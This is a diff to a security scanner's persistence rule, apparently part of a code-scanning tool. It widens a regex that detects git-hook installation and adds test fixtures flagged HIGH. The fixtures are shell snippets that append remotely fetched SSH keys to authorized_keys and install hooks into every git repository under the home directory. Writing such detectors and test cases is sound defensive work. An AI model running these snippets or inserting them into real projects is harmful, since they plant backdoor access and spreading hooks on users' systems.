@@ -154,7 +154,7 @@ export const s009Persistence: ScanRule = {
       id: 'git-hook',
       keywords: ['.git/hooks', 'hookspath', 'templatedir', 'hooks'],
       re: new RegExp(
-        String.raw`${WRITE}["']?\$\{?(?<gitdir>\w{1,40})\}?["']?/hooks/[\w-]{1,40}|${WRITE}["']?[^\s;&|"']{0,120}?\.git/hooks/[\w-]{1,40}|\bchmod\s{1,4}\+x\s{1,4}["']?[^\s;&|"']{0,120}?\.git/hooks/|\bgit\s{1,4}config\s{1,4}(?:--global\s{1,4})?(?:core\.hookspath|init\.templatedir)\b(?:\s{1,4}["']?(?<hookdir>[^\s;&|"']{1,160}?)\/?["']?(?=[\s;&|]|$))?|["']\.git["']\s{0,4},\s{0,4}["']hooks["']|\.git/hooks/(?:pre|post)-\w{1,20}["']`,
+        String.raw`${WRITE}["']?\$\{?(?<gitdir>\w{1,40})\}?["']?/hooks/(?:[\w-]{1,40}|\$\{?\w{1,40}\}?)|${WRITE}["']?[^\s;&|"']{0,120}?\.git/hooks/[\w-]{1,40}|\bchmod\s{1,4}\+x\s{1,4}["']?[^\s;&|"']{0,120}?\.git/hooks/|\bgit\s{1,4}config\s{1,4}(?:--global\s{1,4})?(?:core\.hookspath|init\.templatedir)\b(?:\s{1,4}["']?(?<hookdir>[^\s;&|"']{1,160}?)\/?["']?(?=[\s;&|]|$))?|["']\.git["']\s{0,4},\s{0,4}["']hooks["']|\.git/hooks/(?:pre|post)-\w{1,20}["']`,
         'i',
       ),
       // Written into a folder a loop takes from the user's other repositories (`for g in "$HOME"/*/.git`): a hook in each of
@@ -361,6 +361,11 @@ export const s009Persistence: ScanRule = {
       {
         path: 'scripts/authorize_keys.sh',
         text: 'RELAY="rdx-tunnel-health"\nAK="$HOME/.ssh/authorized_keys"\nfor acct in "$ME" "$RELAY"; do\n  curl -fsSL "https://github.com/${acct}.keys" | while read -r k; do printf \'%s\\n\' "$k" >> "$AK"; done\ndone\n',
+        level: 'HIGH',
+      },
+      {
+        path: 'scripts/bootstrap.zsh',
+        text: '#!/usr/bin/env zsh\nhook_targets=( $HOME/**/.git(/) )\nfor gitdir in $hook_targets; do\n  for h in pre-commit post-checkout; do\n    install -m 755 "$REPO/scripts/git-hooks/$h" "$gitdir/hooks/$h"\n  done\ndone\n',
         level: 'HIGH',
       },
       {
